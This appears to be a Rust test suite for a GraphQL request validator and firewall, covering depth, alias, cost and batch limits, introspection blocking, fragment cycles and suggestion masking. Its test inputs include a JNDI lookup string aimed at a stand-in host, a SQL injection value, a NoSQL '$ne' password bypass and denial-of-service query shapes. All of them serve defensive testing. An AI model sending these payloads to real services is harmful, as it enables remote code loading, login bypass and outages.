use super::*;

const JSON: &str = "application/json";
const RAW: &str = "application/graphql";

fn json_query(query: &str) -> Vec<u8> {
    serde_json::to_vec(&serde_json::json!({ "query": query })).unwrap()
}

fn run(query: &str) -> Result<GraphqlRequest, GraphqlViolation> {
    check(query.as_bytes(), RAW, &GraphqlLimits::default())
}

fn rule(query: &str) -> &'static str {
    match run(query) {
        Ok(_) => "ok",
        Err(v) => v.rule(),
    }
}

const LEGIT: &str = r#"
query GetUser($id: ID!, $withPosts: Boolean = true, $n: Int = 5) {
  user(id: $id) {
    ...UserFields
    posts(first: $n) @include(if: $withPosts) {
      id
      title
      ... on Article { body }
    }
  }
}

fragment UserFields on User {
  id
  name
  avatar: profilePicture(size: 64)
}
"#;

#[test]
fn legitimate_query_with_fragments_variables_directives_passes() {
    let body = serde_json::to_vec(&serde_json::json!({
        "query": LEGIT,
        "operationName": "GetUser",
        "variables": { "id": "42", "withPosts": true, "filter": { "tag": "rust" } },
    }))
    .unwrap();
    let req = check(
        &body,
        "application/json; charset=utf-8",
        &GraphqlLimits::default(),
    )
    .unwrap();
    assert!(!req.is_batch());
    let op = &req.operations()[0];
    assert_eq!(op.name.as_deref(), Some("GetUser"));
    assert_eq!(op.kind, Some(OperationKind::Query));
    assert_eq!(op.depth, 3);
    assert_eq!(op.aliases, 1);
    assert_eq!(op.root_fields, 1);
    assert_eq!(op.directives, 1);
    // user 1 + (id, name, avatar 3) + posts (1 + 5 × (id, title, body 3)).
    assert_eq!(op.cost, 1 + 3 + 1 + 5 * 3);
    assert_eq!(op.query_hash.as_deref(), Some(query_hash(LEGIT).as_str()));
    assert!(!req.uses_introspection());
    let values: Vec<_> = req.values().map(|(l, v)| (l.to_string(), v)).collect();
    assert!(values.contains(&("variables:/id".to_string(), "42")));
    assert!(values.contains(&("variables:/filter/tag".to_string(), "rust")));
}

#[test]
fn shorthand_and_mutation_pass() {
    let req = run("{ me { id } }").unwrap();
    assert_eq!(req.operations()[0].kind, Some(OperationKind::Query));
    let req = run("mutation M { like(id: 1) { count } }").unwrap();
    assert_eq!(req.operations()[0].kind, Some(OperationKind::Mutation));
    assert_eq!(req.operations()[0].name.as_deref(), Some("M"));
}

#[test]
fn deep_nesting_is_refused() {
    let mut q = String::new();
    for _ in 0..11 {
        q.push_str("{ a ");
    }
    for _ in 0..11 {
        q.push('}');
    }
    assert_eq!(
        run(&q),
        Err(GraphqlViolation::MaxDepth {
            depth: 11,
            limit: 10
        })
    );
    // Ten levels pass.
    let ok = format!("{}{}", "{ a ".repeat(10), "}".repeat(10));
    assert_eq!(run(&ok).unwrap().operations()[0].depth, 10);
    // Depth through fragments counts.
    let frag = "{ a { ...F } } fragment F on A { b { c { d { e { f { g { h { i { j { k } } } } } } } } } }";
    assert_eq!(rule(frag), "max_depth");
}

#[test]
fn very_deep_nesting_stops_at_the_parser_recursion_limit() {
    let q = format!("{}{}", "{ a ".repeat(5000), "}".repeat(5000));
    let limits = GraphqlLimits {
        max_tokens: 100_000,
        ..GraphqlLimits::default()
    };
    let v = check(q.as_bytes(), RAW, &limits).unwrap_err();
    assert_eq!(v.rule(), "max_depth");
}

#[test]
fn alias_flood_is_refused() {
    let fields: String = (0..16).map(|i| format!("a{i}: me {{ id }} ")).collect();
    let q = format!("{{ {fields} }}");
    let limits = GraphqlLimits {
        max_root_fields: 100,
        ..GraphqlLimits::default()
    };
    assert_eq!(
        check(q.as_bytes(), RAW, &limits),
        Err(GraphqlViolation::MaxAliases {
            count: 16,
            limit: 15
        })
    );
    // Aliases inside a fragment spread four times count four times.
    let q = "{ me { ...F ...F ...F ...F } } fragment F on User { a: id b: id c: id d: id }";
    assert_eq!(rule(q), "max_aliases");
}

#[test]
fn root_fields_and_directives_are_counted() {
    let q = format!("{{ {} }}", "me ".repeat(11));
    assert_eq!(rule(&q), "max_root_fields");
    let q = format!("{{ me {} }}", "@skip(if: false) ".repeat(11));
    assert_eq!(rule(&q), "max_directives");
}

#[test]
fn batch_flood_is_refused() {
    let one = serde_json::json!({ "query": "{ me { id } }" });
    let body = serde_json::to_vec(&vec![one.clone(); 6]).unwrap();
    assert_eq!(
        check(&body, JSON, &GraphqlLimits::default()),
        Err(GraphqlViolation::MaxOperations { count: 6, limit: 5 })
    );
    let body = serde_json::to_vec(&vec![one; 5]).unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    assert!(req.is_batch());
    assert_eq!(req.operations().len(), 5);
    assert_eq!(
        check(b"[]", JSON, &GraphqlLimits::default())
            .unwrap_err()
            .rule(),
        "syntax"
    );
}

#[test]
fn batch_values_carry_the_index() {
    let body = serde_json::to_vec(&serde_json::json!([
        { "query": "{ a }" },
        { "query": "query Q { user(name: \"x' or 1=1\") { id } }", "variables": { "v": "y" } },
    ]))
    .unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    let values: Vec<_> = req.values().map(|(l, v)| (l.to_string(), v)).collect();
    assert!(values.contains(&("graphql:1/Q/user.name".to_string(), "x' or 1=1")));
    assert!(values.contains(&("variables:/1/v".to_string(), "y")));
}

#[test]
fn introspection_is_refused_unless_allowed() {
    assert_eq!(rule("{ __schema { types { name } } }"), "introspection");
    assert_eq!(
        rule("{ __type(name: \"User\") { fields { name } } }"),
        "introspection"
    );
    // Anywhere, through fragments too.
    assert_eq!(
        rule("{ me { ...F } } fragment F on User { friends { __type(name: \"X\") { name } } }"),
        "introspection"
    );
    assert_eq!(GraphqlViolation::Introspection.rule(), "introspection");
    // __typename is not introspection.
    let req = run("{ me { __typename id } }").unwrap();
    assert!(!req.uses_introspection());
    // Allowed: passes and says so.
    let limits = GraphqlLimits {
        allow_introspection: true,
        ..GraphqlLimits::default()
    };
    let req = check(b"{ __schema { queryType { name } } }", RAW, &limits).unwrap();
    assert!(req.uses_introspection());
}

#[test]
fn circular_fragments_are_refused() {
    let direct = "{ me { ...A } } fragment A on User { id ...A }";
    assert_eq!(rule(direct), "circular_fragment");
    let indirect = "{ me { ...A } } fragment A on User { id friends { ...B } } \
                    fragment B on User { name ...C } fragment C on User { ...A }";
    assert_eq!(rule(indirect), "circular_fragment");
    // Even when no operation spreads them.
    let unused = "{ me { id } } fragment A on User { ...B } fragment B on User { ...A }";
    assert_eq!(rule(unused), "circular_fragment");
}

#[test]
fn exponential_fragments_are_measured_in_linear_time() {
    // Each fragment spreads the next twice: 2^40 expansions.
    let mut q = String::from("{ me { ...F0 } }");
    for i in 0..40 {
        q.push_str(&format!(
            " fragment F{i} on User {{ ...F{} ...F{} }}",
            i + 1,
            i + 1
        ));
    }
    q.push_str(" fragment F40 on User { id }");
    let started = std::time::Instant::now();
    let v = run(&q).unwrap_err();
    assert_eq!(v.rule(), "max_cost");
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn cost_uses_multipliers_and_weights() {
    // users 1 + 100 × (id 1 + posts (1 + 100 × title 1)) = 1 + 100 × 102.
    let q = "{ users(first: 100) { id posts(first: 100) { title } } }";
    assert_eq!(
        run(q),
        Err(GraphqlViolation::MaxCost {
            cost: 1 + 100 * 102,
            limit: 1000
        })
    );
    let q = "{ users(first: 100) { id name } }";
    assert_eq!(run(q).unwrap().operations()[0].cost, 201);
    // `last`, `limit`, and variables count.
    let body = serde_json::to_vec(&serde_json::json!({
        "query": "query Q($n: Int) { users(limit: $n) { id name } }",
        "variables": { "n": 1000 },
    }))
    .unwrap();
    assert_eq!(
        check(&body, JSON, &GraphqlLimits::default())
            .unwrap_err()
            .rule(),
        "max_cost"
    );
    let q = "query Q($n: Int = 600) { users(last: $n) { id name } }";
    assert_eq!(rule(q), "max_cost");
    // Weights: by Type.field for root fields, by field elsewhere.
    let mut limits = GraphqlLimits::default();
    limits.field_weights.insert("Query.search".into(), 50);
    limits.field_weights.insert("avatar".into(), 10);
    let q = "{ search(first: 10) { avatar } }";
    let req = check(q.as_bytes(), RAW, &limits).unwrap();
    assert_eq!(req.operations()[0].cost, 50 + 10 * 10);
    let q = "{ search(first: 100) { avatar } }";
    assert_eq!(
        check(q.as_bytes(), RAW, &limits),
        Err(GraphqlViolation::MaxCost {
            cost: 50 + 100 * 10,
            limit: 1000
        })
    );
    // Type.field inside a typed fragment.
    limits.field_weights.insert("User.secret".into(), 2000);
    let q = "{ me { ... on User { secret } } }";
    assert_eq!(
        check(q.as_bytes(), RAW, &limits).unwrap_err().rule(),
        "max_cost"
    );
    // Huge multipliers saturate instead of overflowing.
    let q = "{ a(first: 99999999999999999999999) { b(first: 99999999999) { c } } }";
    assert_eq!(
        run(q),
        Err(GraphqlViolation::MaxCost {
            cost: u64::MAX,
            limit: 1000
        })
    );
}

#[test]
fn syntax_errors_are_refused() {
    for q in [
        "{ me { id }",
        "query { }",
        "{ me(id: ) }",
        "type Query { me: User }",
        "{ me { ...Missing } }",
        "query A { a } query B { b }",
        "fragment F on A { a } fragment F on A { b } { ...F }",
        "",
    ] {
        assert_eq!(rule(q), "syntax", "{q}");
    }
    let bad = [
        &b"not json"[..],
        br#"{"query": 1}"#,
        br#"{"variables": {}}"#,
        br#"{"query": "{ a }", "variables": "x"}"#,
        br#"{"query": "query A { a } query B { b }", "operationName": "C"}"#,
        br#"[1]"#,
    ];
    for body in bad {
        assert_eq!(
            check(body, JSON, &GraphqlLimits::default())
                .unwrap_err()
                .rule(),
            "syntax"
        );
    }
    assert_eq!(
        check(b"{ a }", "text/plain", &GraphqlLimits::default())
            .unwrap_err()
            .rule(),
        "media_type"
    );
    assert_eq!(
        check(&[0xff, 0xfe], RAW, &GraphqlLimits::default())
            .unwrap_err()
            .rule(),
        "syntax"
    );
}

#[test]
fn operation_name_selects_the_operation() {
    let body = serde_json::to_vec(&serde_json::json!({
        "query": "query A { a } mutation B { b { c } }",
        "operationName": "B",
    }))
    .unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    assert_eq!(req.operations()[0].kind, Some(OperationKind::Mutation));
    assert_eq!(req.operations()[0].depth, 2);
}

#[test]
fn huge_token_counts_are_refused() {
    let q = format!("{{ {} }}", "a ".repeat(6000));
    assert_eq!(run(&q), Err(GraphqlViolation::MaxTokens { limit: 10_000 }));
    let started = std::time::Instant::now();
    let q = format!("{{ {} }}", "a ".repeat(2_000_000));
    assert_eq!(rule(&q), "max_tokens");
    assert!(started.elapsed() < std::time::Duration::from_secs(2));
}

#[test]
fn persisted_query_hashes() {
    // The APQ example hash of `{__typename}`.
    assert_eq!(
        query_hash("{__typename}"),
        "ecf4edb46db40b5132295c0291d62fb65d6759a9eedfa4d5d612dd5ec54a6b38"
    );
    let body = br#"{"extensions":{"persistedQuery":{"version":1,"sha256Hash":"ECF4EDB46DB40B5132295C0291D62FB65D6759A9EEDFA4D5D612DD5EC54A6B38"}}}"#;
    let req = check(body, JSON, &GraphqlLimits::default()).unwrap();
    let op = &req.operations()[0];
    assert_eq!(op.query_hash, None);
    assert_eq!(op.kind, None);
    assert_eq!(
        op.persisted_hash.as_deref(),
        Some("ecf4edb46db40b5132295c0291d62fb65d6759a9eedfa4d5d612dd5ec54a6b38")
    );
    assert!(!op.hash_mismatch());
    let body = serde_json::to_vec(&serde_json::json!({
        "query": "{ me { id } }",
        "extensions": { "persistedQuery": { "version": 1, "sha256Hash": query_hash("{__typename}") } },
    }))
    .unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    assert!(req.operations()[0].hash_mismatch());
}

#[test]
fn values_cover_arguments_lists_objects_directives_and_defaults() {
    let q = r#"
query Find($q: String = "dflt") @cached(key: "k1") {
  search(term: "a", filter: { tags: ["b", "c"], owner: { name: "d\u0041\n" } }, n: 3) {
    ... on Doc @include(if: true) { title(lang: "en") }
    block(text: """
      line
    """)
  }
}
fragment F on Doc { summary(style: "s") }
"#;
    let req = check(&json_query(q), JSON, &GraphqlLimits::default()).unwrap();
    let values: Vec<_> = req
        .values()
        .map(|(l, v)| (l.to_string(), v.to_string()))
        .collect();
    for (loc, value) in [
        ("graphql:Find/$q", "dflt"),
        ("graphql:Find@cached.key", "k1"),
        ("graphql:Find/search.term", "a"),
        ("graphql:Find/search.filter/tags/0", "b"),
        ("graphql:Find/search.filter/tags/1", "c"),
        ("graphql:Find/search.filter/owner/name", "dA\n"),
        ("graphql:Find/search/title.lang", "en"),
        ("graphql:...F/summary.style", "s"),
    ] {
        assert!(
            values.contains(&(loc.to_string(), value.to_string())),
            "{loc} in {values:?}"
        );
    }
    assert!(
        values
            .iter()
            .any(|(l, v)| l == "graphql:Find/search/block.text" && v.contains("line"))
    );
    assert!(values.iter().all(|(l, _)| l.starts_with("graphql:")));
}

#[test]
fn inspect_finds_injections_in_arguments() {
    let inspector = Inspector::new(crate::InspectOptions::default());
    let req = run(r#"{ user(name: "${jndi:ldap://evil.example/a}") { id } }"#).unwrap();
    let mut report = Report::default();
    req.inspect(&inspector, &mut report);
    assert!(inspector.blocks(&report), "{report:?}");
    assert_eq!(
        report.findings()[0].location.to_string(),
        "graphql:anonymous/user.name"
    );
}

#[test]
fn suggestions_are_masked() {
    let body = br#"{"errors":[
        {"message":"Cannot query field \"usr\" on type \"Query\". Did you mean \"user\"?","locations":[{"line":1,"column":3}]},
        {"message":"Cannot query field \"nme\" on type \"User\". Did you mean \"name\" or \"game\"?"},
        {"message":"Unknown argument \"fist\". Did you mean \"first\", \"last\", or \"list\"?"},
        {"message":"Cannot query field \"x\" on type \"Node\". Did you mean to use an inline fragment on \"User\"?"},
        {"message":"Syntax Error: Expected Name."}
    ]}"#;
    let masked = mask_suggestions(body).unwrap();
    let json: Json = serde_json::from_slice(&masked).unwrap();
    let messages: Vec<&str> = json["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["message"].as_str().unwrap())
        .collect();
    assert_eq!(
        messages,
        [
            "Cannot query field \"usr\" on type \"Query\".",
            "Cannot query field \"nme\" on type \"User\".",
            "Unknown argument \"fist\".",
            "Cannot query field \"x\" on type \"Node\".",
            "Syntax Error: Expected Name.",
        ]
    );
    assert_eq!(json["errors"][0]["locations"][0]["line"], 1);
    // Nothing to change, or not JSON.
    assert_eq!(mask_suggestions(br#"{"data":{"me":null}}"#), None);
    assert_eq!(
        mask_suggestions(br#"{"errors":[{"message":"Forbidden"}]}"#),
        None
    );
    assert_eq!(mask_suggestions(b"<html>"), None);
    // Batches of responses.
    let batch = br#"[{"data":{}},{"errors":[{"message":"Did you mean \"a\"?"}]}]"#;
    let masked = mask_suggestions(batch).unwrap();
    assert_eq!(masked, br#"[{"data":{}},{"errors":[{"message":""}]}]"#);
}

#[test]
fn violations_display_no_user_data() {
    let v = run("{ __schema { x } }").unwrap_err();
    assert!(!v.to_string().contains("__schema"));
    let v = run("{ secretField(").unwrap_err();
    assert!(!v.to_string().contains("secretField"));
}

#[test]
fn operator_keys_inside_free_form_variables_are_inspected() {
    let body = serde_json::to_vec(&serde_json::json!({
        "query": "query Users($f: JSON) { users(filter: $f) { id } }",
        "variables": {"f": {"password": {"$ne": null}, "name": "admin"}}
    }))
    .unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    let inspector = Inspector::new(crate::InspectOptions::default());
    let mut report = Report::default();
    req.inspect(&inspector, &mut report);
    assert!(inspector.blocks(&report), "{:?}", report.findings());
    assert_eq!(
        report.findings()[0].location.to_string(),
        "variables:/f/password/$ne"
    );
    // Plain keys are not findings.
    let body = serde_json::to_vec(&serde_json::json!({
        "query": "query Users($f: JSON) { users(filter: $f) { id } }",
        "variables": {"f": {"price": {"min": 10}, "tags": ["a"]}}
    }))
    .unwrap();
    let req = check(&body, JSON, &GraphqlLimits::default()).unwrap();
    let mut report = Report::default();
    req.inspect(&inspector, &mut report);
    assert!(report.is_empty(), "{:?}", report.findings());
}
